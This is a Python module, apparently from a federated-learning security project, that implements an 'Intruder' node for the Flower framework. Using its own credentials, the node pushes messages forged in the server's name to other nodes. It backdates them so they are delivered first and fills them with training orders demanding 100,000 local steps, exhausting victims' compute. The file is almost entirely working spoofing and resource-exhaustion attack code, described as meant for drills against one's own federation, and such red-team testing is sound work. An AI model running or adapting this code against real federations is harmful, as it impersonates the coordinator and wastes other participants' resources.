"""A registered node that speaks to the SuperLink itself, and leaves messages for other nodes in the server's name.

Flower ties a request to the key of a node, and believes what a message says of its sender; of several messages it
delivers the oldest first. So a node can leave others work that looks like the server's, and older than it. Clients that
take orders of the server only (`steadfed.flower.client.receive`, `signed_orders_only`) refuse it; each such message
still costs the node that it is for a process.
"""

from __future__ import annotations

import os
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Self, final

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.app import ArrayRecord, ConfigRecord, Message, RecordDict
from flwr.app.message import remove_content_from_message
from flwr.app.metadata import Metadata
from flwr.common.constant import SUPERLINK_NODE_ID
from flwr.common.serde import message_to_proto
from flwr.proto.fleet_pb2 import PushMessagesRequest
from flwr.proto.node_pb2 import Node
from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
from flwr.supercore.inflatable.inflatable_protobuf_utils import make_push_object_fn_protobuf
from flwr.supercore.inflatable.inflatable_utils import push_objects
from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
from flwr.supercore.protobuf.client import ProtobufClientInterceptor
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

from steadfed.errors import ParameterError

STEPS = 100_000
"""How many local steps a forged order asks for, if nothing else is said."""


@final
class Intruder:
    """A node that leaves messages for others in the server's name; its SuperNode may be online meanwhile.

    For drills in a federation of one's own, such as one that `steadfed federation up` has started:

        folder = LocalDeployment.attach().folder
        with Intruder("127.0.0.1:8000", node_id, folder.key("node-3"), folder.certificates.authority) as intruder:
            intruder.leave(forged_order(arrays), victim, run_id)

    Args:
        address: of the SuperLink.
        node_id: what the SuperLink calls the node, see nodes.json.
        key: the node's private key, as `ssh-keygen` writes it.
        authority: the certificate of the authority that the SuperLink is known by.
    """

    def __init__(
        self, address: str, node_id: int, key: str | os.PathLike[str], authority: str | os.PathLike[str]
    ) -> None:
        private = load_ssh_private_key(Path(key).read_bytes(), None)
        if not isinstance(private, ec.EllipticCurvePrivateKey):
            raise ParameterError(f"the key of a node lies on a curve, got {type(private).__name__}")
        self._node = Node(node_id=node_id)
        interceptors: list[ProtobufClientInterceptor] = [
            RuntimeVersionHttpInterceptor(component_name="SuperNode"),
            NodeAuthHttpInterceptor(private, private.public_key()),
        ]
        self._client = FleetHttpClient.from_server_address(
            address, insecure=False, root_certificates=Path(authority).read_bytes(), interceptors=interceptors
        )

    def __enter__(self) -> Self:
        """Return the intruder; its connection is closed at the end."""
        return self

    def __exit__(self, *_: object) -> None:
        """Close the connection."""
        self._client.close()

    def leave(self, content: RecordDict, victim: int, run: int, *, kind: str = "train", age: float = 3600.0) -> str:
        """Leave a message for another node, as if the server had written it some time ago; return its id.

        Args:
            content: what it holds, see `forged_order`.
            victim: the node id of whom it is for.
            run: Flower's id of a run that goes on.
            kind: the type of the message.
            age: of the message, in seconds; the oldest one is delivered first.
        """
        message = forged_message(content, victim, run, kind=kind, age=age)
        response = self._client.PushMessages(
            PushMessagesRequest(
                node=self._node,
                messages_list=[message_to_proto(remove_content_from_message(message))],
                message_object_trees=[get_object_tree(message)],
            )
        )
        push = make_push_object_fn_protobuf(self._client.PushObject, self._node, run, response.session_id)
        push_objects(get_all_nested_objects(message), push, object_ids_to_push=set(response.objects_to_push))
        return message.metadata.message_id


def forged_order(arrays: ArrayRecord, *, steps: int = STEPS, config: Mapping[str, Any] | None = None) -> RecordDict:
    """Return what a message holds that asks a client for many steps.

    >>> dict(forged_order(ArrayRecord(), config={"lr": 0.1})["config"])["local-steps"]
    100000
    """
    told = {"server-round": 1, "round": 0, "local-steps": steps, "batch-size": 1, "seed": 0, "lr": 1e-6}
    return RecordDict({"arrays": arrays, "config": ConfigRecord({**told, **(config or {})})})


def forged_message(content: RecordDict, victim: int, run: int, *, kind: str, age: float) -> Message:
    """Return a message in the server's name that looks as if it were some time old, and good for a day."""
    metadata = Metadata(
        run_id=run,
        message_id="",
        src_node_id=SUPERLINK_NODE_ID,
        dst_node_id=victim,
        reply_to_message_id="",
        group_id="",
        created_at=time.time() - age,
        ttl=age + 86_400.0,
        message_type=kind,
    )
    message: Message = Message(content=content, metadata=metadata)  # type: ignore[call-overload]
    vars(metadata)["_message_id"] = message.object_id
    return message
